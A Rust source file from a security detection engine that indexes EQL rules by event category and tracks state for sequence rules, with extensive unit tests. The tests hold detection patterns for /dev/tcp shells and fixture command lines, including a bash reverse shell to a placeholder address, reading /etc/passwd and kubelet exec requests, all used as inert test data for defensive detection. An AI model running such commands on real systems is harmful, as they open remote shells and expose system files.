//! Compiled rules, indexed by the event categories their queries select.
//!
//! A `process where ...` rule can only match a document whose `event.category` holds
//! `"process"`, so each event is checked against its categories' rules and the `any where` rules,
//! and most rules are never looked at. The set is immutable once built and can be shared between
//! threads; evaluating single-event rules never allocates.
//!
//! Stateful rules — sequences, samples, queries with `| head`/`| tail` — are indexed by the
//! categories of all their items and keep what they remember in a [`RuleState`]: one per
//! evaluator, owned by the caller (`replay::Replay`), so the `RuleSet` stays shared and
//! read-only. The state also keeps event time: the watermark and the late-event tolerance
//! (see [`crate::eql::Clock`]); events later than the tolerance are counted and skipped by
//! stateful rules only.

use super::candidates::{Group, HitCache};
use super::{Outcome, Report, Rule};
use crate::document::{Document, FieldPath, Scalar};
use crate::eql::query::Role;
use crate::eql::{Clock, Hit, Match, Program, QueryState, Retain, StateLimits, StateStats};

#[derive(Debug)]
pub struct RuleSet {
    rules: Vec<Rule>,
    /// Category → its rules, single-event and stateful together, so that one pass of the
    /// index finds both. A handful of categories at most, so a list beats a hash map and its
    /// scan visits each category once however many values the event's `event.category` array
    /// repeats. A stateful rule appears under each category its items select.
    by_category: Vec<(Box<str>, Group)>,
    /// `any where ...` rules and stateful rules with an `any` item, tried on every event.
    any: Group,
    /// Every stateful rule.
    stateful: Vec<usize>,
    /// Stateful rules whose results can wait for time to pass (a trailing missing event).
    delayed: Vec<usize>,
    category_field: FieldPath,
}

/// The programs a rule's events go through: the one of a single-event rule, every item of a
/// stateful one.
fn programs(r: &Rule) -> Vec<&Program> {
    match r.query.as_event() {
        Some(p) if !r.query.is_stateful() => vec![p],
        _ => r.query.items().into_iter().map(|(_, p)| p).collect(),
    }
}

fn add(lists: &mut Vec<(Box<str>, Vec<usize>)>, cat: &str, i: usize) {
    match lists.iter_mut().find(|(c, _)| &**c == cat) {
        Some((_, list)) => {
            if !list.contains(&i) {
                list.push(i)
            }
        }
        None => lists.push((cat.into(), vec![i])),
    }
}

impl RuleSet {
    /// Takes ownership of compiled rules and indexes them.
    pub fn new(rules: Vec<Rule>) -> RuleSet {
        let mut by_category: Vec<(Box<str>, Vec<usize>)> = Vec::new();
        let mut any = Vec::new();
        let mut set = RuleSet {
            rules,
            by_category: Vec::new(),
            any: Group::default(),
            stateful: Vec::new(),
            delayed: Vec::new(),
            category_field: FieldPath::new("event.category"),
        };
        for (i, rule) in set.rules.iter_mut().enumerate() {
            rule.index = i;
            let q = &rule.query;
            if !q.is_stateful() {
                match q.as_event().and_then(|p| p.category()) {
                    None => any.push(i),
                    Some(cat) => add(&mut by_category, cat, i),
                }
                continue;
            }
            set.stateful.push(i);
            if let crate::eql::query::Body::Sequence(s) = q.body() {
                if s.delays_results() {
                    set.delayed.push(i);
                }
            }
            match q.categories() {
                None => any.push(i),
                Some(cats) => {
                    for cat in cats {
                        add(&mut by_category, cat, i);
                    }
                }
            }
        }
        set.any = Group::new(&set.rules, any, programs);
        set.by_category = by_category
            .into_iter()
            .map(|(cat, list)| (cat, Group::new(&set.rules, list, programs)))
            .collect();
        set
    }

    /// Builds a set from the rules that compiled; returns the other reports (unsupported,
    /// skipped, errors) so the caller can say why they are not in the set.
    pub fn from_reports(reports: Vec<Report>) -> (RuleSet, Vec<Report>) {
        let mut rules = Vec::new();
        let mut rest = Vec::new();
        for report in reports {
            match report.outcome {
                Outcome::Ok(rule) => rules.push(*rule),
                _ => rest.push(report),
            }
        }
        (RuleSet::new(rules), rest)
    }

    pub fn len(&self) -> usize {
        self.rules.len()
    }

    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// Every rule, in load order; `rules()[i].index() == i`.
    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// How many rules keep state (sequences, samples, pipes).
    pub fn stateful_count(&self) -> usize {
        self.stateful.len()
    }

    /// Fresh state for the stateful rules, with default limits.
    pub fn new_state(&self) -> RuleState {
        self.new_state_with(&StateLimits::default())
    }

    pub fn new_state_with(&self, limits: &StateLimits) -> RuleState {
        let states = self
            .rules
            .iter()
            .map(|r| r.query.is_stateful().then(|| r.query.new_state(limits)))
            .collect();
        RuleState {
            states,
            inert: vec![false; self.rules.len()],
            clock: Clock::new(limits.late_tolerance_ns),
            seen: vec![0; self.rules.len()],
            epoch: 0,
            late: 0,
            hit_cache: HitCache::default(),
        }
    }

    /// Calls `on_match` for every single-event rule (without pipes) whose query matches `doc`:
    /// first the rules of each category the document has (in the order categories were first
    /// seen at load; within a category, in load order), then the `any` rules. Stateful rules
    /// are not run (see [`RuleSet::evaluate_with_state`]). Does not allocate.
    ///
    /// Most rules imply literals some field must hold (`process.name in ("sh", "bash")`,
    /// `process.command_line : "*/dev/tcp/*"`); those are indexed by them (`candidates`), so
    /// an event is checked only against the rules its own values name and the rules no index
    /// covers.
    pub fn evaluate<D: Document + ?Sized>(&self, doc: &D, mut on_match: impl FnMut(&Rule)) {
        self.visit(doc, None, |i, _| {
            if let Some(rule) = self.rules.get(i) {
                if single_match(rule, doc) {
                    on_match(rule);
                }
            }
        });
    }

    /// Calls `try_rule` with every rule `doc` may match and the items it may match (see
    /// [`QueryState::on_candidate`]): the candidates of each of its categories' groups, then
    /// of the `any` group.
    fn visit<D: Document + ?Sized>(
        &self,
        doc: &D,
        mut cache: Option<&mut HitCache>,
        mut try_rule: impl FnMut(usize, u64),
    ) {
        let categories = doc.values(&self.category_field);
        if !categories.is_missing() {
            for (at, (category, group)) in self.by_category.iter().enumerate() {
                if categories.any(|v| matches!(v, Scalar::Str(s) if s == &**category)) {
                    group.visit(doc, cache.as_deref_mut(), at, |i, items| {
                        try_rule(i as usize, items)
                    });
                }
            }
        }
        let at = self.by_category.len();
        self.any
            .visit(doc, cache, at, |i, items| try_rule(i as usize, items));
    }

    /// The rules `doc` is a candidate for, with the items it may match.
    #[cfg(test)]
    fn candidates<D: Document + ?Sized>(&self, doc: &D) -> Vec<(usize, u64)> {
        let mut out = Vec::new();
        self.visit(doc, None, |i, items| out.push((i, items)));
        out
    }

    /// How many (single-event, stateful) rules are reached only through a literal index; the
    /// rest are tried on every event of their categories.
    pub fn indexed_count(&self) -> (usize, usize) {
        let mut indexed: Vec<u32> = Vec::new();
        let mut unindexed: Vec<u32> = Vec::new();
        for g in self
            .by_category
            .iter()
            .map(|(_, g)| g)
            .chain(std::iter::once(&self.any))
        {
            unindexed.extend(g.unindexed_rules());
            indexed.extend(&g.rules);
        }
        indexed.sort_unstable();
        indexed.dedup();
        // A stateful rule in several groups counts as indexed only when no group tries it always.
        indexed.retain(|i| !unindexed.contains(i));
        let stateful = indexed
            .iter()
            .filter(|&&i| {
                self.rules
                    .get(i as usize)
                    .is_some_and(|r| r.query.is_stateful())
            })
            .count();
        (indexed.len() - stateful, stateful)
    }

    /// Every rule, stateful ones included: single-event matches as [`Hit::Event`], sequence and
    /// sample results (and results released by pipes) as [`Hit::Match`]. First come sequences
    /// that waited for a trailing missing event and whose deadline this event's time passed
    /// (whichever rule the event is for), then the results of the rules the event reaches, in
    /// the order of [`RuleSet::evaluate`]. An event later than the state's tolerance is
    /// counted and reaches the single-event rules only.
    pub fn evaluate_with_state<D: Document + ?Sized>(
        &self,
        doc: &D,
        state: &mut RuleState,
        mut on_hit: impl FnMut(&Rule, Hit<'_, D>),
    ) {
        let tick = if self.stateful.is_empty() {
            None
        } else {
            let tick = state.clock.tick(doc.timestamp_ns());
            if tick.is_none() {
                state.late += 1;
            }
            tick
        };
        if let Some(tick) = tick {
            state.epoch += 1;
            for &i in &self.delayed {
                if let (Some(rule), Some(Some(st))) = (self.rules.get(i), state.states.get_mut(i)) {
                    if st.wants_advance(tick.safe) {
                        st.advance(&rule.query, tick.safe, &mut |m| on_hit(rule, Hit::Match(m)));
                    }
                }
            }
        }
        let mut retain = Retain::new(doc);
        // Out of the state while the state is lent to the rules.
        let mut cache = std::mem::take(&mut state.hit_cache);
        self.visit(doc, Some(&mut cache), |i, items| {
            let Some(rule) = self.rules.get(i) else {
                return;
            };
            if !rule.query.is_stateful() {
                if single_match(rule, doc) {
                    on_hit(rule, Hit::Event(doc));
                }
            } else if let Some(tick) = tick {
                self.run_stateful(i, items, tick, &mut retain, state, &mut on_hit);
            }
        });
        state.hit_cache = cache;
    }

    fn run_stateful<D: Document + ?Sized>(
        &self,
        i: usize,
        items: u64,
        tick: crate::eql::Tick,
        retain: &mut Retain<'_, D>,
        state: &mut RuleState,
        on_hit: &mut impl FnMut(&Rule, Hit<'_, D>),
    ) {
        let (Some(rule), Some(Some(st)), Some(seen)) = (
            self.rules.get(i),
            state.states.get_mut(i),
            state.seen.get_mut(i),
        ) else {
            return;
        };
        // A rule listed under two of the event's categories runs once: every group indexes
        // all of its items alike, so the first group's items are the ones that may match.
        if *seen == state.epoch || state.inert.get(i).copied().unwrap_or(false) || st.done() {
            return;
        }
        *seen = state.epoch;
        st.on_candidate(&rule.query, tick, retain, items, &mut |hit| {
            on_hit(rule, hit)
        });
    }

    /// End of input: sequences waiting for a trailing missing event are emitted (nothing can
    /// come to reject them now) and `| tail` results are released.
    pub fn finish(&self, state: &mut RuleState, mut on_match: impl FnMut(&Rule, &Match)) {
        for &i in &self.stateful {
            if let (Some(rule), Some(Some(st))) = (self.rules.get(i), state.states.get_mut(i)) {
                st.flush(&rule.query, &mut |m| on_match(rule, m));
            }
        }
    }
}

/// A single-event rule (without pipes) matches `doc`.
#[inline]
fn single_match<D: Document + ?Sized>(rule: &Rule, doc: &D) -> bool {
    !rule.query.is_stateful()
        && rule
            .query
            .as_event()
            .is_some_and(|p| p.matches_condition(doc))
}

/// What stateful rules remember, for one evaluator; made by [`RuleSet::new_state`].
#[derive(Debug)]
pub struct RuleState {
    /// By rule index; `None` for single-event rules.
    states: Vec<Option<QueryState>>,
    /// Rules that can never be fed by this evaluator's source (see [`RuleState::only_categories`]).
    inert: Vec<bool>,
    clock: Clock,
    /// The event epoch each stateful rule last ran in.
    seen: Vec<u64>,
    epoch: u64,
    late: u64,
    /// What the rule index found for values seen lately.
    hit_cache: HitCache,
}

impl RuleState {
    /// Declares that this evaluator's source produces only events of `categories` (the audit
    /// and Endpoint Security sources produce `process` events only). A stateful rule with a
    /// required item of another category can never complete, so it is not run at all — it
    /// would only hold partial matches. Returns how many rules became inert.
    pub fn only_categories(&mut self, rules: &RuleSet, categories: &[&str]) -> usize {
        let mut n = 0;
        for &i in &rules.stateful {
            let Some(rule) = rules.rules.get(i) else {
                continue;
            };
            let fed = rule.query.items().iter().all(|(role, p)| {
                *role != Role::Required || p.category().is_none_or(|c| categories.contains(&c))
            });
            if let Some(slot) = self.inert.get_mut(i) {
                *slot = !fed;
                n += usize::from(!fed);
            }
        }
        n
    }

    /// Events that came later than the tolerance allows, skipped by stateful rules.
    pub fn late_events(&self) -> u64 {
        self.late
    }

    /// Totals over every stateful rule.
    pub fn stats(&self) -> StateStats {
        let mut total = StateStats::default();
        for st in self.states.iter().flatten() {
            total.add(&st.stats());
        }
        total
    }

    /// One rule's counters (`None` for a single-event rule).
    pub fn rule_stats(&self, index: usize) -> Option<StateStats> {
        self.states.get(index)?.as_ref().map(QueryState::stats)
    }

    /// The newest event time seen.
    pub fn watermark(&self) -> Option<i64> {
        self.clock.watermark()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::eql::Options;
    use crate::rules::load::load_source;
    use crate::rules::Origin;
    use crate::JsonDocument;
    use serde_json::json;

    fn set(queries: &[&str]) -> RuleSet {
        let rules = queries
            .iter()
            .enumerate()
            .map(|(i, q)| {
                let src = format!(
                    "[rule]\nname = \"r{i}\"\nrule_id = \"r{i}\"\ndescription = \"t\"\n\
                     severity = \"low\"\nrisk_score = 21\ntype = \"eql\"\nquery = '''\n{q}\n'''\n"
                );
                match load_source(Origin::Builtin("t"), &src, &Options::default()).outcome {
                    Outcome::Ok(r) => *r,
                    other => panic!("{q}: {other:?}"),
                }
            })
            .collect();
        RuleSet::new(rules)
    }

    fn doc(v: serde_json::Value) -> JsonDocument {
        JsonDocument::new(v.as_object().cloned().unwrap())
    }

    /// The index must never change a verdict: every rule is also tried by brute force, and
    /// the verdicts through a state (whose cache remembers lookups) are the same.
    fn same_verdicts(set: &RuleSet, docs: &[JsonDocument]) -> usize {
        let mut hits = 0;
        let mut state = set.new_state();
        for d in docs {
            let mut indexed = Vec::new();
            set.evaluate(d, |r| indexed.push(r.index()));
            let mut through_state = Vec::new();
            set.evaluate_with_state(d, &mut state, |r, hit| {
                if let Hit::Event(_) = hit {
                    through_state.push(r.index());
                }
            });
            assert_eq!(indexed, through_state, "{:?}", d.to_json());
            let brute: Vec<usize> = set
                .rules()
                .iter()
                .filter(|r| r.program().is_some_and(|p| p.matches(d)))
                .map(Rule::index)
                .collect();
            assert_eq!(indexed, brute, "{:?}", d.to_json());
            hits += brute.len();
        }
        hits
    }

    #[test]
    fn the_literal_index_keeps_verdicts_and_load_order() {
        let set = set(&[
            r#"process where process.name == "bash""#,
            r#"process where process.name : ("python*", "PERL*", "php?.?") and process.args == "-c""#,
            r#"process where process.name in~ ("SH", "dash") or process.name like "zsh*""#,
            r#"process where process.parent.name == "nginx" and process.name != "nginx""#,
            r#"process where process.args : "*/dev/tcp/*""#,
            r#"process where process.name : "*sh""#,
            r#"process where process.name == "true""#,
            r#"process where process.name == "7""#,
            r#"any where process.name == "bash""#,
        ]);
        // Rule 4 by a substring of the args, rule 5 by a substring of the name.
        assert_eq!(set.indexed_count(), (9, 0));
        let docs: Vec<JsonDocument> = [
            json!({"event": {"category": "process"}, "process": {"name": "bash"}}),
            json!({"event": {"category": "process"}, "process": {"name": "BASH"}}),
            json!({"event": {"category": "process"}, "process": {"name": "python3.11", "args": ["-c"]}}),
            json!({"event": {"category": "process"}, "process": {"name": "Perl5", "args": ["x", "-c"]}}),
            json!({"event": {"category": "process"}, "process": {"name": "php8.2", "args": "-c"}}),
            json!({"event": {"category": "process"}, "process": {"name": "sh", "parent": {"name": "nginx"}}}),
            json!({"event": {"category": "process"}, "process": {"name": "Dash"}}),
            json!({"event": {"category": "process"}, "process": {"name": "zsh-5.9"}}),
            json!({"event": {"category": "process"}, "process": {"name": ["bash", "sh", "bash"]}}),
            json!({"event": {"category": "process"}, "process": {"name": true}}),
            json!({"event": {"category": "process"}, "process": {"name": 7}}),
            json!({"event": {"category": "process"}, "process": {"name": 7.0}}),
            json!({"event": {"category": "process"}, "process": {"name": "bash", "args": ["-c", "x >& /dev/tcp/1/2"]}}),
            json!({"event": {"category": ["network", "process"]}, "process": {"name": "p"}}),
            json!({"process": {"name": "bash"}}),
            json!({"event": {"category": "process"}, "process": {"name": "x".repeat(300)}}),
        ]
        .into_iter()
        .map(doc)
        .collect();
        assert!(same_verdicts(&set, &docs) > 10);
    }

    #[test]
    fn alternatives_and_refining_lists_narrow_the_candidates() {
        let set = set(&[
            r#"process where (process.name : "python*" and process.command_line : "*fromhex*") or (process.name == "xxd" and process.args : "-r*")"#,
            r#"process where process.name in ("cat", "grep") and process.args like "/sys/kernel/debug/*""#,
            r#"sequence [process where process.name == "a"] [process where process.parent.name == "b" and process.args == "-x"]"#,
            // Substrings of the command line and the arguments are looked up for these anyway,
            // so the others may be refined by them.
            r#"process where process.command_line : "*zzz*""#,
            r#"process where process.args : "*yyy*""#,
        ]);
        let ev = |v: serde_json::Value| {
            let mut v = v;
            v["event"]["category"] = json!("process");
            doc(v)
        };
        let cases = [
            (
                json!({"process": {"name": "python3", "command_line": "python3 -c print(bytes.fromhex('41'))"}}),
                vec![(0, 1)],
            ),
            (
                json!({"process": {"name": "python3", "command_line": "python3 -m http.server"}}),
                vec![],
            ),
            (
                json!({"process": {"name": "xxd", "args": ["xxd", "-r", "-p"]}}),
                vec![(0, 1)],
            ),
            (
                json!({"process": {"name": "xxd", "args": ["xxd", "f"], "command_line": "fromhex"}}),
                vec![],
            ),
            (
                json!({"process": {"name": "cat", "args": ["cat", "/sys/kernel/debug/kprobes/list"]}}),
                vec![(1, 1)],
            ),
            (
                json!({"process": {"name": "cat", "args": ["cat", "/etc/passwd"]}}),
                vec![],
            ),
            // A sequence learns which of its items the event can match.
            (
                json!({"process": {"name": "a", "args": ["-x"], "parent": {"name": "b"}}}),
                vec![(2, 0b11)],
            ),
            (
                json!({"process": {"name": "z", "args": ["-x"], "parent": {"name": "b"}}}),
                vec![(2, 0b10)],
            ),
            (
                json!({"process": {"name": "z", "args": ["-y"], "parent": {"name": "b"}}}),
                vec![],
            ),
        ];
        for (v, want) in cases {
            let d = ev(v);
            assert_eq!(set.candidates(&d), want, "{:?}", d.to_json());
        }
    }

    #[test]
    fn remembered_lookups_keep_verdicts_when_values_repeat_and_collide() {
        let set = set(&[
            r#"process where process.name : ("n1*", "N7") and process.args : "*-x*""#,
            r#"process where process.executable like "/opt/*/n3" or process.args == "n5""#,
        ]);
        // Far more distinct values than a field's cache has slots, each seen several times
        // in different company, so slots are replaced and reused.
        let docs: Vec<JsonDocument> = (0..2000)
            .map(|i| {
                let n = format!("n{}", (i * 7) % 300);
                let arg = if i % 3 == 0 { "-x" } else { "n5" };
                let mut v = json!({"process": {"name": n.to_uppercase(), "args": [n.clone(), arg],
                                    "executable": format!("/opt/{}/{n}", i % 5)}});
                v["event"]["category"] = json!("process");
                doc(v)
            })
            .collect();
        assert!(same_verdicts(&set, &docs) > 100);
    }

    #[test]
    fn substrings_other_fields_and_long_literals_keep_verdicts() {
        let long = "a".repeat(200);
        let long_rule = format!(r#"process where process.command_line == "{long}""#);
        let set = set(&[
            r#"process where process.command_line : "*/DEV/tcp/*""#,
            r#"process where event.action == "load_module" and process.name != "x""#,
            r#"process where process.name == "kubeletctl" or (process.args in ("run", "exec") and process.args : "*:10250*")"#,
            r#"process where process.command_line like "*\\x*\\x*""#,
            &long_rule,
            r#"process where process.executable like "/tmp/*/x?y*""#,
            r#"process where process.name like "?ash""#,
            r#"process where user.id == "0" and process.command_line regex ".*x.*""#,
            r#"process where process.name : "*""#,
            r#"process where process.args : ("*a*", "*") and process.pid > 1"#,
            r#"process where process.name == "a" or process.pid == 2"#,
        ]);
        // The last three imply no literal: `*` matches anything, a number test is no literal.
        assert_eq!(set.indexed_count(), (8, 0));
        let docs: Vec<JsonDocument> = [
            json!({"process": {"command_line": "bash -i >& /dev/TCP/1/2 0>&1"}}),
            json!({"process": {"command_line": "/dev/tc"}}),
            json!({"event": {"action": "load_module"}, "process": {"name": "insmod"}}),
            json!({"event": {"action": "LOAD_MODULE"}, "process": {"name": "insmod"}}),
            json!({"event": {"action": "exec"}, "process": {"name": "kubeletctl"}}),
            json!({"process": {"name": "curl", "args": ["curl", "exec", "http://n:10250/pods"]}}),
            json!({"process": {"name": "curl", "args": ["curl", "EXEC", "http://n:10250/pods"]}}),
            json!({"process": {"command_line": r"printf \x41\x42"}}),
            json!({"process": {"command_line": r"printf \X41\x42"}}),
            json!({"process": {"command_line": long.clone()}}),
            json!({"process": {"command_line": format!("{long}b")}}),
            json!({"process": {"executable": "/tmp/q/xzy1"}}),
            json!({"process": {"executable": "/TMP/q/xzy1"}}),
            json!({"process": {"name": "bash", "pid": 2}}),
            json!({"process": {"name": "BASH", "pid": 3, "args": ["a"]}}),
            json!({"user": {"id": 0}, "process": {"command_line": "xx"}}),
            json!({"user": {"id": "0"}, "process": {"command_line": "xx"}}),
            json!({"user": {"id": 0.0}, "process": {"command_line": "xx"}}),
            json!({"user": {"id": "1"}, "process": {"command_line": "xx"}}),
        ]
        .into_iter()
        .map(|mut v| {
            v["event"]["category"] = json!("process");
            doc(v)
        })
        .collect();
        assert!(same_verdicts(&set, &docs) > 15);
    }

    /// (rule index, the result's process names).
    type Results = Vec<(usize, String)>;

    /// Results of the rule set, and of every stateful rule run on every event.
    fn stateful_results(set: &RuleSet, docs: &[JsonDocument]) -> (Results, Results) {
        let name = FieldPath::new("process.name");
        let names = |m: &Match| -> String {
            m.events
                .iter()
                .map(|e| match e.as_ref().and_then(|d| d.values(&name).first()) {
                    Some(Scalar::Str(s)) => s.to_owned(),
                    _ => "-".to_owned(),
                })
                .collect::<Vec<_>>()
                .join(",")
        };
        let mut via_set = Vec::new();
        let mut state = set.new_state();
        for d in docs {
            set.evaluate_with_state(d, &mut state, |rule, hit| {
                if let Hit::Match(m) = hit {
                    via_set.push((rule.index(), names(m)));
                }
            });
        }
        set.finish(&mut state, |rule, m| via_set.push((rule.index(), names(m))));
        let mut brute = Vec::new();
        for rule in set.rules().iter().filter(|r| r.query.is_stateful()) {
            let q = &rule.query;
            let mut st = q.new_state(&StateLimits::default());
            let mut clock = Clock::new(StateLimits::default().late_tolerance_ns);
            for d in docs {
                let Some(tick) = clock.tick(d.timestamp_ns()) else {
                    continue;
                };
                st.advance(q, tick.safe, &mut |m| brute.push((rule.index(), names(m))));
                let mut retain = Retain::new(d);
                st.on_event(q, tick, &mut retain, &mut |hit| {
                    if let Hit::Match(m) = hit {
                        brute.push((rule.index(), names(m)));
                    }
                });
            }
            st.flush(q, &mut |m| brute.push((rule.index(), names(m))));
        }
        via_set.sort();
        brute.sort();
        (via_set, brute)
    }

    #[test]
    fn stateful_rules_are_skipped_only_for_events_no_item_can_match() {
        let set = set(&[
            r#"sequence by host.id with maxspan=10s [process where process.name == "a"] ![process where process.name == "m"] [process where process.name : "b*"]"#,
            r#"sequence with maxspan=10s [process where process.name == "a"] [process where process.name == "c"] until [process where process.name == "stop"]"#,
            r#"sequence [process where true] [process where process.name == "c"]"#,
            r#"sample by host.id [process where process.name == "c"] [process where process.parent.name == "a"]"#,
            r#"sequence with maxspan=5s [process where process.name == "a"] ![process where process.name == "m"]"#,
            r#"process where process.name == "c" | tail 1"#,
        ]);
        // Only `[process where true]` keeps rule 2 out of the index.
        assert_eq!(set.indexed_count(), (0, 5));
        let stream = [
            "a", "x", "b1", "a", "m", "b2", "a", "c", "stop", "a", "stop", "c", "z", "a", "c", "x",
        ];
        let docs: Vec<JsonDocument> = stream
            .iter()
            .enumerate()
            .map(|(i, n)| {
                doc(
                    json!({"@timestamp": 1000 * i as i64, "event": {"category": "process"},
                           "host": {"id": "h"}, "process": {"name": n, "parent": {"name": "a"}}}),
                )
            })
            .collect();
        let (via_set, brute) = stateful_results(&set, &docs);
        assert_eq!(via_set, brute);
        assert!(via_set.len() >= 6, "{via_set:?}");
    }

    #[test]
    fn the_set_is_shared_and_the_state_moves_between_threads() {
        fn sync<T: Send + Sync>() {}
        fn send<T: Send>() {}
        sync::<RuleSet>();
        send::<RuleState>();
    }

    #[test]
    fn many_candidates_keep_load_order() {
        let queries: Vec<String> = (0..200)
            .map(|i| format!(r#"process where process.name == "bash" and process.pid != {i}"#))
            .collect();
        let refs: Vec<&str> = queries.iter().map(String::as_str).collect();
        let set = set(&refs);
        let d =
            doc(json!({"event": {"category": "process"}, "process": {"name": "bash", "pid": 3}}));
        assert_eq!(same_verdicts(&set, &[d]), 199);
    }

    #[test]
    fn a_category_too_big_for_the_index_tries_every_rule() {
        // More entries than the candidate bitsets hold: every rule of the category is tried,
        // and the verdicts stay right.
        let queries: Vec<String> = (0..2100)
            .map(|i| {
                format!(
                    r#"process where process.name == "n{}" and process.pid != 3"#,
                    i % 7
                )
            })
            .collect();
        let refs: Vec<&str> = queries.iter().map(String::as_str).collect();
        let set = set(&refs);
        let docs: Vec<JsonDocument> = ["n1", "n8", "N1"]
            .iter()
            .map(|n| {
                doc(json!({"event": {"category": "process"}, "process": {"name": n, "pid": 4}}))
            })
            .collect();
        assert_eq!(same_verdicts(&set, &docs), 300);
    }
}
